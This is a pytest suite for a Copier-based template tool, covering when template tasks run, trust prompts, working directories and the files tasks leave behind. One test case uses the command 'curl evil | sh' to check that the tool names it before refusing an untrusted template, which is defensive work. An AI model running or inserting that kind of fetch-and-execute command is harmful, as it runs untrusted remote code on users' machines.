"""A template's tasks: when they run, where, who is asked, and what becomes of what they make."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from paved_road import git
from paved_road.service.model import open_service
from paved_road.testing import PATIENCE, Files, evolve, make_road, paved, run
from tests.renderers import assume_agreement

ANSWERS = {"{{ _copier_conf.answers_file }}.jinja": "{{ _copier_answers | to_nice_yaml }}"}
ONCE = "{{ _copier_operation == 'copy' }}"


@pytest.fixture(autouse=True)
def ours(monkeypatch: pytest.MonkeyPatch) -> None:
    """Other tests compare the renderers."""
    assume_agreement(monkeypatch)


def config(*tasks: object, **more: object) -> str:
    return str(yaml.safe_dump({"_tasks": list(tasks), "name": "world", **more}))


def road(tmp_path: Path, *tasks: object, files: Files | None = None, **more: object) -> Path:
    own = {"copier.yml": config(*tasks, **more), "a.txt": "1\n", **ANSWERS}
    return make_road(tmp_path / "road", {**own, **(files or {})})


def log(tmp_path: Path) -> list[str]:
    file = tmp_path / "log"
    return file.read_text().splitlines() if file.exists() else []


def tracked(service: Path) -> set[str]:
    return set(git.process.text("ls-files", cwd=service).splitlines()) - {".copier-answers.yml", ".paved-road.lock"}


# -- when ----------------------------------------------------------------------------------------------------------


def test_a_task_for_new_services_runs_once_and_never_again(tmp_path: Path) -> None:
    at = road(
        tmp_path,
        {"command": f"echo once >> {tmp_path}/log", "when": ONCE},
        f"echo $STAGE $COPIER_OPERATION {{{{ _copier_operation }}}} >> {tmp_path}/log",
    )
    service = tmp_path / "service"
    assert paved("new", service, "--road", at, "--trust", "--dry-run").returncode == 0
    assert log(tmp_path) == []
    assert paved("new", service, "--road", at, "--trust").returncode == 0
    assert log(tmp_path) == ["once", "task copy copy"]
    evolve(at, {"a.txt": "2\n"}, tag="v1.1.0")
    for reading in (("update", "--dry-run", "--trust"), ("update", "--dry-run"), ("status",), ("drift",)):
        assert paved(reading[0], service, *reading[1:]).returncode in (0, 1)
        assert log(tmp_path) == ["once", "task copy copy"]
    assert paved("update", service, "--trust", "--commit").returncode == 0
    assert log(tmp_path) == ["once", "task copy copy", "task update update"]


def test_adopt_runs_none_and_says_so(tmp_path: Path) -> None:
    at = road(tmp_path, f"echo ran >> {tmp_path}/log")
    service = make_road(tmp_path / "service", {"a.txt": "1\n"}, tag=None)
    for more in ([], ["--trust"]):
        said = paved("adopt", service, "--road", at, "--defaults", "--dry-run", *more)
        assert said.returncode == 0
        assert "paved adopt does not run tasks, so changes by this task count as differences: echo ran" in said.stderr
    assert log(tmp_path) == []


def test_the_old_release_rendered_again_runs_no_task_for_new_services(tmp_path: Path) -> None:
    """Plain Copier made it, so its pristine files have to be rendered: with what tasks for an update do to them."""
    shape = "mv a.txt b.txt"
    at = road(tmp_path, shape, {"command": f"echo once >> {tmp_path}/log", "when": ONCE})
    service = make_road(tmp_path / "service", {"b.txt": "1\n"}, tag=None)
    evolve(service, {".copier-answers.yml": f"_commit: v1.0.0\n_src_path: {at}\nname: world\n"})
    evolve(at, {"a.txt": "2\n"}, tag="v1.1.0")
    assert paved("update", service, "--trust", "--commit").returncode == 0
    assert (service / "b.txt").read_text() == "2\n"
    assert not (service / "a.txt").exists()
    assert log(tmp_path) == []


def test_what_a_task_for_new_services_did_is_the_services_afterwards(tmp_path: Path) -> None:
    """It made a file, changed one, took one away and moved one; updates do not do so again, and do not undo it."""
    did = "echo made > made.txt; sed -i s/ID/4711/ id.txt; rm sample.txt; mv draft.txt final.txt"
    files: Files = {"id.txt": "ID\n2\n3\n4\n", "sample.txt": "1\n", "draft.txt": "1\n"}
    at = road(tmp_path, {"command": did, "when": ONCE}, files=files)
    service = tmp_path / "service"
    assert paved("new", service, "--road", at, "--trust").returncode == 0
    made = {"a.txt": "1\n", "made.txt": "made\n", "id.txt": "4711\n2\n3\n4\n", "final.txt": "1\n"}
    for number, last in (("1", "4"), ("2", "four"), ("3", "4!")):
        assert {path: (service / path).read_text() for path in tracked(service)} == made
        changed = {"a.txt": f"{number}\n", "id.txt": f"ID\n2\n3\n{last}\n", "sample.txt": f"{number}\n"}
        evolve(at, changed, tag=f"v1.{number}.0")
        assert paved("update", service, "--dry-run").returncode == 0
        said = paved("update", service, "--commit", "--json").envelope
        assert said["exit_code"] == 0, said
        made |= {"a.txt": f"{number}\n", "id.txt": f"4711\n2\n3\n{last}\n"}


def test_a_dry_run_compares_what_no_task_shaped(tmp_path: Path) -> None:
    at = road(tmp_path, "mv dirA dirB", files={"dirA/f": "1\n2\n3\n4\n5\n"})
    service = tmp_path / "service"
    assert paved("new", service, "--road", at, "--trust").returncode == 0
    evolve(service, {"dirB/f": "1\n2\n3\n4\nmine\n"})
    evolve(at, {"dirA/f": "road\n2\n3\n4\n5\n"}, tag="v1.1.0")
    shown = paved("update", service, "--dry-run", "--json").envelope
    assert shown["exit_code"] == 0
    assert "+road" in shown["result"]["diff"]
    assert "+++ b/dirB/f" in shown["result"]["diff"]
    assert "+++ b/dirA/f" not in shown["result"]["diff"]


def test_a_dry_run_says_what_it_left_out(tmp_path: Path) -> None:
    at = road(tmp_path, "echo made > made.txt", {"command": "false", "when": False})
    said = paved("new", tmp_path / "x", "--road", at, "--dry-run")
    assert "a dry run does not run tasks, so changes by this task are not shown: echo made > made.txt" in said.stderr
    assert "false" not in said.stderr
    assert paved("new", tmp_path / "service", "--road", at, "--trust").returncode == 0
    evolve(at, {"a.txt": "2\n"}, tag="v1.1.0")
    shown = paved("update", tmp_path / "service", "--dry-run", "--json").envelope
    assert shown["result"]["not_run"] == ["task: echo made > made.txt"]
    assert any("does not show what this changes: task: echo made" in note for note in shown["notes"])


# -- who is asked --------------------------------------------------------------------------------------------------


def test_trust_is_asked_for_when_something_will_run(tmp_path: Path) -> None:
    at = road(tmp_path, {"command": "touch ran", "when": "{{ name == 'run' }}"})
    assert paved("new", tmp_path / "quiet", "--road", at).returncode == 0
    said = paved("new", tmp_path / "loud", "--road", at, "--data", "name=run", "--json").envelope
    assert said["error"]["code"] == "untrusted-template"
    assert said["error"]["cause"] == "task: touch ran"
    assert not (tmp_path / "loud").exists()
    evolve(at, {"a.txt": "2\n"}, tag="v1.1.0")
    assert paved("update", tmp_path / "quiet", "--data", "name=run").returncode == 2
    assert git.process.text("status", "--porcelain", cwd=tmp_path / "quiet") == ""
    assert paved("update", tmp_path / "quiet").returncode == 0


def test_it_is_asked_for_once_with_all_that_will_run(tmp_path: Path) -> None:
    at = road(tmp_path)
    assert paved("new", tmp_path / "service", "--road", at).returncode == 0
    moves = [
        {"version": "1.1.0", "command": "echo after"},
        {"version": "1.1.0", "command": "echo before", "when": "{{ _stage == 'before' }}"},
        {"version": "9", "command": "echo never"},
    ]
    evolve(at, {"copier.yml": config("echo task", _migrations=moves)}, tag="v1.1.0")
    said = paved("update", tmp_path / "service", "--json").envelope["error"]
    assert said["cause"] == "task: echo task; migration: echo before; migration: echo after"


UNLESS = "{{ quiet is not defined }}"


@pytest.mark.parametrize(
    ("task", "said"),
    [
        ({"command": "curl evil | sh", "when": "{{ name }}"}, "; task (if its condition holds): curl evil | sh"),
        ({"command": ["sh", "-c", "x"], "when": UNLESS}, "; task (if its condition holds): sh -c x"),
        ({"command": "echo two", "when": ONCE}, "; task: echo two"),
        ({"command": "echo two", "when": True}, "; task: echo two"),
        ({"command": "echo two", "when": "{{ _copier_operation == 'update' }}"}, ""),
        ({"command": "echo two", "when": "no"}, ""),
    ],
)
def test_beside_a_certain_task_those_with_a_condition_are_named(tmp_path: Path, task: object, said: str) -> None:
    at = road(tmp_path, "echo plain", task)
    refused = paved("new", tmp_path / "service", "--road", at, "--json").envelope["error"]
    assert refused["cause"] == f"task: echo plain{said}"


def test_a_certain_migration_hides_no_task_and_no_migration_with_a_condition(tmp_path: Path) -> None:
    at = road(tmp_path)
    assert paved("new", tmp_path / "service", "--road", at).returncode == 0
    moves = [
        {"version": "1.1.0", "command": "echo after"},
        {"version": "1.1.0", "command": "echo fresh", "when": "{{ new and _stage == 'after' }}"},
        {"version": "1.1.0", "command": "echo before", "when": "{{ _stage == 'before' }}"},
        {"version": "9", "command": "echo never", "when": "{{ new }}"},
    ]
    tasks = [{"command": "echo if", "when": "{{ new }}"}, {"command": "echo once", "when": ONCE}]
    evolve(at, {"copier.yml": config(*tasks, _migrations=moves, new={"type": "bool", "default": True})}, tag="v1.1.0")
    refused = paved("update", tmp_path / "service", "--json").envelope["error"]
    assert refused["cause"] == (
        "task (if its condition holds): echo if; migration: echo before; migration: echo after; "
        "migration (if its condition holds): echo fresh"
    )


def test_where_the_old_release_wants_to_run_the_new_ones_commands_are_named_too(tmp_path: Path) -> None:
    """Plain Copier made the service, so its release is rendered again."""
    at = road(tmp_path, "echo old")
    service = make_road(tmp_path / "service", {"a.txt": "1\n"}, tag=None)
    evolve(service, {".copier-answers.yml": f"_commit: v1.0.0\n_src_path: {at}\nname: world\n"})
    tasks = ["echo new", {"command": "echo if", "when": "{{ name }}"}]
    evolve(at, {"copier.yml": config(*tasks, _migrations=["echo move"])}, tag="v1.1.0")
    refused = paved("update", service, "--json").envelope["error"]
    assert refused["cause"] == (
        "task: echo old; task: echo new; task (if its condition holds): echo if; "
        "migration (if an update passes its release): echo move"
    )


def test_beside_an_extension_every_command_is_named(tmp_path: Path) -> None:
    moves = [{"version": "2", "command": "echo move"}, {"version": "3", "before": ["echo old"], "after": [["a", "b"]]}]
    task = {"command": "echo if", "when": "{{ name }}"}
    at = road(tmp_path, "echo plain", task, _jinja_extensions=["jinja2.ext.do"], _migrations=moves)
    refused = paved("new", tmp_path / "service", "--road", at, "--json").envelope["error"]
    assert refused["cause"] == (
        "Jinja extension: jinja2.ext.do; task: echo plain; task (if its condition holds): echo if; "
        "migration (if an update passes its release): echo move; "
        "migration (if an update passes its release): echo old; migration (if an update passes its release): a b"
    )


def test_a_lock_command_without_trust_is_told(tmp_path: Path) -> None:
    at = road(tmp_path, files={"paved-road.yml": "owners: {derived: {made.lock: touch made.lock}}\n"})
    said = paved("new", tmp_path / "service", "--road", at)
    assert said.returncode == 0
    assert "made.lock was not made, because that runs a command of the road: touch made.lock" in said.stderr
    evolve(at, {"a.txt": "2\n"}, tag="v1.1.0")
    for _ in range(2):
        said = paved("update", tmp_path / "service", "--dry-run")
        assert said.returncode == 0
        assert "made.lock" in said.stdout + said.stderr
        evolve(tmp_path / "service", {"made.lock": "made by hand\n"})


# -- where, and what they make -------------------------------------------------------------------------------------


def test_what_git_ignores_of_their_work_stays_on_the_disk_and_out_of_the_lock(tmp_path: Path) -> None:
    at = road(tmp_path, "mkdir .venv && pwd > .venv/where && echo made > made.txt", files={".gitignore": ".venv\n"})
    service = tmp_path / "service"
    assert paved("new", service, "--road", at, "--trust").returncode == 0
    assert (service / ".venv/where").read_text() == f"{service}\n", "they run where the service stays"
    lock = open_service(service).lock
    assert lock is not None
    assert set(lock.files) == {".gitignore", "a.txt", "made.txt"} == tracked(service)
    evolve(at, {"a.txt": "2\n"}, tag="v1.1.0")
    assert paved("update", service, "--trust", "--commit").returncode == 0
    assert (service / ".venv/where").read_text() == f"{service}\n"
    assert git.process.text("status", "--porcelain", cwd=service) == ""


def test_the_repository_that_a_task_makes_is_the_services(tmp_path: Path) -> None:
    make = (
        "git init -q -b trunk && git remote add origin https://example.org/x.git && "
        "mkdir -p .git/hooks && echo 'exit 1' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit"
    )
    at = road(tmp_path, {"command": make, "when": ONCE})
    service = tmp_path / "service"
    assert paved("new", service, "--road", at, "--trust").returncode == 0
    assert git.process.text("remote", cwd=service) == "origin"
    assert git.process.text("symbolic-ref", "--short", "HEAD", cwd=service) == "trunk"
    assert (service / ".git/hooks/pre-commit").exists()
    assert tracked(service) == {"a.txt"}


def test_commits_of_a_task_stay(tmp_path: Path) -> None:
    identity = "-c user.name=t -c user.email=t@example.org"
    at = road(tmp_path, f"git init -q && git add -A && git {identity} commit -qm theirs")
    assert paved("new", tmp_path / "service", "--road", at, "--trust").returncode == 0
    subjects = git.process.text("log", "--format=%s", cwd=tmp_path / "service").splitlines()
    assert subjects == ["Stamp service from road 1.0.0", "theirs"]
    assert git.process.text("status", "--porcelain", cwd=tmp_path / "service") == ""


def test_a_name_that_no_lock_takes_is_refused_and_nothing_remains(tmp_path: Path) -> None:
    at = road(tmp_path, r"touch 'a\b'")
    assert "the template writes to" in paved("new", tmp_path / "service", "--road", at, "--trust").stderr
    assert not (tmp_path / "service").exists()


def test_a_repository_inside_is_told(tmp_path: Path) -> None:
    inner = make_road(tmp_path / "library", {"lib.py": "1\n"})
    at = road(tmp_path, f"git clone -q {inner} vendor/library")
    said = paved("new", tmp_path / "service", "--road", at, "--trust")
    assert said.returncode == 0
    assert "a task made a git repository of vendor/library" in said.stderr
    lock = open_service(tmp_path / "service").lock
    assert lock is not None
    assert set(lock.files) == {"a.txt"}


def test_in_a_monorepo_git_answers_a_task(tmp_path: Path) -> None:
    at = road(tmp_path, "git rev-parse --show-prefix > where.txt; git rev-parse --show-toplevel > top.txt")
    mono = make_road(tmp_path / "mono", {"README": "x"}, tag=None)
    assert paved("new", mono / "services" / "one", "--road", at, "--trust").returncode == 0
    assert (mono / "services/one/where.txt").read_text() == "services/one/\n"
    evolve(mono, {})
    evolve(at, {"a.txt": "2\n"}, tag="v1.1.0")
    changes = paved("update", mono / "services" / "one", "--trust", "--json").envelope["result"]["changes"]
    assert {change["path"] for change in changes} == {".copier-answers.yml", ".paved-road.lock", "a.txt"}


def test_git_answers_a_task_in_an_update_too(tmp_path: Path) -> None:
    at = road(tmp_path, "git add a.txt && basename $(git rev-parse --show-toplevel) > top.txt")
    assert paved("new", tmp_path / "service", "--road", at, "--trust", "--ref", "1.0.0").returncode == 2, (
        "not in one yet"
    )
    evolve(at, {"copier.yml": config({"command": "git add a.txt && ls > top.txt", "when": "{{ name == 'later' }}"})})
    git.process.run("tag", "v1.1.0", cwd=at)
    assert paved("new", tmp_path / "service", "--road", at).returncode == 0
    evolve(at, {"a.txt": "2\n"}, tag="v1.2.0")
    assert paved("update", tmp_path / "service", "--trust", "--data", "name=later").returncode == 0
    assert "a.txt" in (tmp_path / "service/top.txt").read_text()


def test_a_script_of_the_template_runs_from_where_it_is(tmp_path: Path) -> None:
    at = road(tmp_path, "sh {{ _copier_conf.src_path }}/t.sh {{ _folder_name }}", files={"t.sh": "echo $1 > by.txt\n"})
    assert paved("new", tmp_path / "service", "--road", at, "--trust").returncode == 0
    assert (tmp_path / "service/by.txt").read_text() == "service\n"
    evolve(at, {"t.sh": "echo new $1 > by.txt\n"}, tag="v1.1.0")
    assert paved("update", tmp_path / "service", "--trust").returncode == 0
    assert (tmp_path / "service/by.txt").read_text() == "new service\n"


def test_a_file_that_says_where_it_was_made_says_where_the_service_is(tmp_path: Path) -> None:
    at = road(tmp_path, "pwd > here.txt; echo {{ _copier_conf.dst_path }} >> here.txt")
    service = tmp_path / "service"
    assert paved("new", service, "--road", at, "--trust").returncode == 0
    evolve(at, {"a.txt": "2\n"}, tag="v1.1.0")
    assert paved("update", service, "--trust", "--commit").returncode == 0
    assert (service / "here.txt").read_text() == f"{service}\n{service}\n"


def test_a_folder_that_a_task_makes_a_link_is_one(tmp_path: Path) -> None:
    at = road(tmp_path, "mv one two; ln -s two one", files={"one/f": "1\n"})
    service = tmp_path / "service"
    assert paved("new", service, "--road", at, "--trust").returncode == 0
    lock = open_service(service).lock
    assert lock is not None
    assert set(lock.files) == {"a.txt", "one", "two/f"}
    evolve(at, {"one/f": "2\n"}, tag="v1.1.0")
    assert paved("update", service, "--trust", "--commit").returncode == 0
    assert (service / "one/f").read_text() == "2\n"


def test_folders_environment_and_lists(tmp_path: Path) -> None:
    at = road(
        tmp_path,
        {"command": ["sh", "-c", "echo $0 > out", "{{ name }}"], "working_directory": "{{ 'sub' }}"},
        files={"sub/x": "x\n"},
    )
    assert paved("new", tmp_path / "service", "--road", at, "--trust").returncode == 0
    assert (tmp_path / "service/sub/out").read_text() == "world\n"


def test_a_task_that_fails_says_why_and_nothing_remains(tmp_path: Path) -> None:
    at = road(tmp_path, "echo 'please log in first' >&2; exit 3")
    said = paved("new", tmp_path / "deep" / "service", "--road", at, "--trust")
    assert said.returncode == 2
    assert "cause: please log in first" in said.stderr
    assert not (tmp_path / "deep").exists()
    (tmp_path / "empty").mkdir()
    git.process.run("init", "--quiet", tmp_path / "empty")
    assert paved("new", tmp_path / "empty", "--road", at, "--trust").returncode == 2
    assert [path.name for path in (tmp_path / "empty").iterdir()] == [".git"]


@pytest.mark.parametrize(
    "task", [["no-such-program"], {"command": "true", "working_directory": "nowhere"}, {"when": "x"}]
)
def test_a_task_that_cannot_start_is_an_error_and_no_crash(tmp_path: Path, task: object) -> None:
    at = road(tmp_path, task)
    assert paved("new", tmp_path / "service", "--road", at, "--trust").returncode == 2
    assert not (tmp_path / "service").exists()


def test_what_a_task_says_is_shown_while_it_runs_and_apart_from_the_data(tmp_path: Path) -> None:
    at = road(tmp_path, "echo out; echo err >&2; printf 'no end'")
    said = paved("new", tmp_path / "service", "--road", at, "--trust", "--json")
    assert said.envelope["result"]["tasks"] == ["echo out; echo err >&2; printf 'no end'"]
    assert said.stderr.splitlines()[:3] == ["out", "err", "no end"]


def test_interrupted_the_task_ends_and_nothing_remains(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "alive")  # whoever holds its other end is alive
    at = road(tmp_path, f"exec 9> {tmp_path}/alive; echo running >&9; sleep 600 & wait")
    command = [sys.executable, "-m", "paved_road", "new", str(tmp_path / "service"), "--road", str(at), "--trust"]
    process = subprocess.Popen(command, env=git.environment(), stderr=subprocess.PIPE)
    with (tmp_path / "alive").open() as alive:
        assert alive.readline() == "running\n"
        process.send_signal(signal.SIGINT)
        process.communicate(timeout=PATIENCE)
        assert process.returncode == 130
        assert not (tmp_path / "service").exists()
        assert alive.read() == "", "all of the task's processes have ended"


def test_empty_folders_are_made_and_told(tmp_path: Path) -> None:
    files: Files = {"data/{% if name == 'x' %}f{% endif %}": "f\n", "out/f": "", "used/f": "f\n"}
    at = road(tmp_path, files=files, _exclude=["copier.yml", "/out/"])
    said = paved("new", tmp_path / "service", "--road", at)
    assert "git does not store empty folders, so clones will not have data" in said.stderr
    assert sorted(path.name for path in (tmp_path / "service").iterdir() if path.is_dir()) == [".git", "data", "used"]


@pytest.mark.parametrize("slash", ["", "/"])
def test_an_excluded_folder_is_not_made_however_it_is_written(tmp_path: Path, slash: str) -> None:
    at = road(tmp_path, files={"only/x": "f\n", "only/in/y": "f\n"}, _exclude=["copier.yml", f"/only{slash}"])
    said = paved("new", tmp_path / "service", "--road", at)
    assert "empty folder" not in said.stderr
    assert not (tmp_path / "service" / "only").exists()


# -- what is rendered for an update ----------------------------------------------------------------------------------

EXCLUDE = ["copier.yml", "{% if _copier_operation == 'update' %}seed/{% else %}later.txt{% endif %}"]


@pytest.mark.parametrize("agree", [True, False], ids=["ours", "copier"])
def test_files_left_out_of_updates_are_the_services(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, agree: bool
) -> None:
    assume_agreement(monkeypatch, agree=agree)
    seed: Files = {"seed/edited": "1\n", "seed/same": "1\n", "seed/gone": "1\n", "later.txt": "later\n"}
    at = road(tmp_path, files=seed, _exclude=EXCLUDE)
    service = tmp_path / "service"
    assert paved("new", service, "--road", at).returncode == 0
    assert tracked(service) == {"a.txt", "seed/edited", "seed/same", "seed/gone"}
    evolve(service, {"seed/edited": "ours\n", "seed/gone": None})
    assert paved("drift", service).returncode == 0
    for version in ("1.1.0", "1.2.0"):
        changed = dict.fromkeys(("a.txt", "seed/edited", "seed/same", "seed/gone"), f"{version}\n")
        evolve(at, {**changed, f"seed/new-{version}": "new\n"}, tag=f"v{version}")
        assert paved("update", service, "--commit").returncode == 0
        found = {path: (service / path).read_text() for path in tracked(service)}
        assert found == {"a.txt": f"{version}\n", "seed/edited": "ours\n", "seed/same": "1\n", "later.txt": "later\n"}


def test_both_renderers_leave_out_the_same(tmp_path: Path) -> None:
    at = road(
        tmp_path, files={"x/y/f": "", "x/g": "", "keep/z": "", "later.txt": ""},
        _exclude=[*EXCLUDE, "{% if _copier_operation == 'update' %}x\n!x/g{% endif %}"],
    )  # fmt: skip
    from paved_road.render import Operation, Renderer, prepare, render
    from paved_road.road.opening import open_road
    from paved_road.road.releases import release
    from paved_road.road.templates import find_template
    from paved_road.settings.config import load_config

    settings = load_config({"road": str(at)})
    form = prepare(release(find_template(open_road(settings), None)), cache=settings.cache_dir)
    book = form.settle(tmp_path / "hi", given={})
    for operation in Operation:
        trees = [
            render(form, book, tmp_path / "hi", operation=operation, renderer=renderer).tree for renderer in Renderer
        ]
        assert trees[0] == trees[1]
        assert ("later.txt" in trees[0], "x/y/f" in trees[0]) == ((operation == "update"), (operation == "copy"))


def test_the_same_tasks_leave_the_same_files_as_with_copier(tmp_path: Path) -> None:
    at = road(
        tmp_path,
        {"command": "echo {{ _copier_operation }} $STAGE {{ name }} > told.txt", "when": "{{ name }}"},
        {"command": "rm told.txt", "when": "no"},
        "echo {{ _copier_conf.answers_file }} {{ _folder_name }} {{ _copier_phase }} >> told.txt",
        ["sh", "-c", "echo $0 >> told.txt", "{{ name | upper }}"],
        "mv a.txt b.txt",
    )
    copier = [sys.executable, "-W", "ignore", "-m", "copier"]
    assert run(*copier, "copy", "--trust", "--quiet", "--defaults", at, tmp_path / "c/hi", cwd=tmp_path).returncode == 0
    assert paved("new", tmp_path / "p/hi", "--road", at, "--trust").returncode == 0
    found = [{name: (tmp_path / who / "hi" / name).read_text() for name in ("told.txt", "b.txt")} for who in ("c", "p")]
    assert found[0] == found[1]
    assert json.dumps(found).count("tasks") == 2


def test_its_command_is_shown_as_the_template_wrote_it(tmp_path: Path) -> None:
    python, source = "{{ _copier_python }}", "{{ _copier_conf.src_path }}"
    files = {"bin/it.py": "import sys; sys.exit('cannot')\n"}
    at = road(tmp_path, [python, f"{source}/bin/it.py", "{{ name }}"], files=files)
    said = paved("new", tmp_path / "service", "--road", at)
    assert (said.returncode, "task: python bin/it.py {{ name }}" in said.stderr) == (2, True)  # nothing is answered yet
    for words in (["--dry-run"], ["--dry-run", "--json"], ["--dry-run", "--trust", "--json"], ["--trust"]):
        said = paved("new", tmp_path / "service", "--road", at, "--defaults", *words)
        assert "python bin/it.py world" in said.stdout + said.stderr, words
        assert sys.executable not in said.stdout + said.stderr
